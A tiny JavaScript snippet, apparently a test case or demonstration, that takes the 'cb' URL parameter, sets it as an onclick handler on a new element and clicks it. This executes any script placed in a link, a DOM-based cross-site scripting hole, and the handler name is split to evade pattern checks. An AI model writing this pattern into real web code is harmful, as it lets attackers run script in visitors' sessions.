const b = document.createElement('b');
b.setAttribute('on' + 'click', new URL(location).searchParams.get('cb'));
b.click();
